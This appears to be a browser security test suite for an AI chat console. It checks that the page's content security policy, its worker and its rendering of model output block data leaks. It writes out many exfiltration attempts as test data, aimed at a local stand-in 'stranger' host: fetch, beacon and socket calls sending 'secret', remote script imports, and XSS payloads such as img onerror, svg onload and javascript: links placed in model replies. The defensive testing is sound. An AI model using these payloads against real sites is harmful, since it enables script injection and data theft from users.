// The policy holds: neither the page nor its worker nor what a model writes can send anything to a stranger.

import assert from "node:assert/strict";
import { createServer, type Server as HttpServer } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, test } from "node:test";
import { LLMock } from "@copilotkit/aimock";
import type { BrowserContext } from "playwright-core";
import { Profile } from "../support/browser.ts";
import { Console, NAMES, observe } from "../support/console.ts";
import { Recording } from "../support/recording.ts";
import { type Server, startServer } from "../support/server.ts";

describe("a leak", () => {
  let server: Server;
  let stranger: HttpServer;
  let foreign: string;
  /** What reached the stranger. */
  const heard: string[] = [];
  let profile: Profile;
  let context: BrowserContext;
  let console: Console;

  before(async () => {
    server = await startServer();
    stranger = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("self.pwned = true");
    });
    stranger.on("upgrade", (request, socket) => {
      heard.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => stranger.listen(0, "127.0.0.1", resolve));
    foreign = `127.0.0.1:${(stranger.address() as AddressInfo).port}`;
    const recording = new Recording();
    profile = new Profile((context) => observe(context, recording));
    context = await profile.launch();
    console = await Console.open(context, server.url, { pace: 0 });
  });
  after(async () => {
    await profile?.remove();
    stranger?.close();
    server?.close();
  });

  test("from the page: every way out is shut", async () => {
    const { violations, connections } = await console.page.evaluate(async (foreign) => {
      const violations: string[] = [];
      const connections: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => {
        violations.push(event.effectiveDirective);
        if (event.effectiveDirective === "connect-src") connections.push(new URL(event.blockedURI).pathname);
      });
      const http = `http://${foreign}`;
      const refused = async (attempt: () => unknown): Promise<void> => {
        try {
          await attempt();
        } catch {
          // As it should be.
        }
      };
      await refused(() => fetch(`${http}/fetch`, { method: "POST", body: "secret", mode: "no-cors" }));
      await refused(() => navigator.sendBeacon(`${http}/beacon`, "secret"));
      await refused(() => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.addEventListener("load", resolve);
        request.addEventListener("error", reject);
        request.open("POST", `${http}/xhr`);
        request.send("secret");
      }));
      await refused(() => new WebSocket(`ws://${foreign}/socket`));
      await refused(() => new EventSource(`${http}/events`));
      await refused(() => import(`${http}/module.js`));
      await refused(() => new Worker(URL.createObjectURL(new Blob([`fetch("${http}/blob-worker")`]))));
      await refused(() => eval("1"));
      const elements: [string, Record<string, string>][] = [
        ["img", { src: `${http}/image` }],
        ["script", { src: `${http}/script.js` }],
        ["link", { rel: "stylesheet", href: `${http}/style.css` }],
        ["iframe", { src: `${http}/frame` }],
        ["object", { data: `${http}/object` }],
        ["video", { src: `${http}/video` }],
      ];
      for (const [name, attributes] of elements) document.body.append(Object.assign(document.createElement(name), attributes));
      const inline = document.createElement("script");
      inline.textContent = "window.pwned = true";
      document.body.append(inline);
      const styled = document.createElement("p");
      styled.setAttribute("style", `background: url(${http}/background)`);
      document.body.append(styled);
      const form = Object.assign(document.createElement("form"), { action: `${http}/form`, method: "post" });
      document.body.append(form);
      form.submit();
      await new Promise((resolve) => setTimeout(resolve, 500));
      return { violations, connections: [...new Set(connections)].sort() };
    }, foreign);
    assert.deepEqual(heard, []);
    // Each was tried, and it was the policy that refused it.
    assert.deepEqual(connections, ["/beacon", "/events", "/fetch", "/socket", "/xhr"]);
    assert.equal(await console.page.evaluate(() => "pwned" in window), false);
    for (const directive of ["connect-src", "img-src", "script-src-elem", "style-src-elem", "style-src-attr", "frame-src", "object-src", "media-src", "worker-src", "form-action", "script-src"]) {
      assert.ok(violations.includes(directive), `${directive} was not violated: ${violations}`);
    }
  });

  test("from the worker: it reaches models and runs nothing of a stranger's", async () => {
    const [worker] = console.page.workers();
    assert.ok(worker, "the page has a worker");
    await worker.evaluate(NAMES);
    const outcomes = await worker.evaluate(async (foreign) => {
      const outcome = async (attempt: () => unknown): Promise<string> => {
        try {
          await attempt();
          return "done";
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        module: await outcome(() => import(`http://${foreign}/module.js`)),
        scripts: await outcome(() => (self as unknown as { importScripts(url: string): void }).importScripts(`http://${foreign}/scripts.js`)),
        eval: await outcome(() => (0, eval)("1")),
        function: await outcome(() => new Function("return 1")()),
        socket: await outcome(() => new Promise((resolve, reject) => {
          const socket = new WebSocket(`ws://${foreign}/socket`);
          socket.onopen = resolve;
          socket.onerror = () => reject(new Error());
        })),
        blob: await outcome(() => new Promise((resolve, reject) => {
          const nested = new Worker(URL.createObjectURL(new Blob([`fetch("http://${foreign}/nested")`])));
          nested.onerror = () => reject(new Error());
          setTimeout(resolve, 1000);
        })),
        pwned: String("pwned" in self),
      };
    }, foreign);
    assert.deepEqual({ ...outcomes, blob: outcomes.blob === "done" ? "done" : "refused" }, { module: "TypeError", scripts: outcomes.scripts, eval: "EvalError", function: "EvalError", socket: outcomes.socket, blob: "refused", pwned: "false" });
    assert.notEqual(outcomes.scripts, "done");
    assert.notEqual(outcomes.socket, "done");
    assert.deepEqual(heard, []);
  });

  test("from what a model writes: it is text", async () => {
    const mock = new LLMock({ port: 0 });
    mock.on({}, {
      content: [
        `<img src="http://${foreign}/img" onerror="window.pwned=1">`,
        `<script>window.pwned=1</script><svg onload="window.pwned=1"></svg>`,
        `![picture](http://${foreign}/markdown)`,
        `<style>body{background:url(http://${foreign}/css)}</style><iframe src="http://${foreign}/frame"></iframe>`,
        `<p style="background:url(http://${foreign}/attribute)">styled</p>`,
        `[click me](javascript:window.pwned=1) and [fine](https://example.org/)`,
        `The end.`,
      ].join("\n\n"),
    });
    await mock.start();
    try {
      await console.page.reload();
      await console.ready();
      await console.control("configure_model", { kind: "openai", baseUrl: `${mock.url}/v1` });
      await console.say("Attack");
      const answer = console.get("chat-events").locator('[data-kind="assistant"][data-open="false"]').filter({ hasText: "The end." });
      await answer.waitFor();
      await answer.getByRole("link", { name: "fine" }).waitFor();
      assert.equal(await answer.locator("img, script, style, iframe, svg[onload], [style], [onerror]").count(), 0);
      assert.equal(await answer.getByText("click me").getAttribute("href"), null);
      await new Promise((resolve) => setTimeout(resolve, 300));
      assert.equal(await console.page.evaluate(() => "pwned" in window), false);
      assert.deepEqual(heard, []);
    } finally {
      await mock.stop();
    }
  });
});
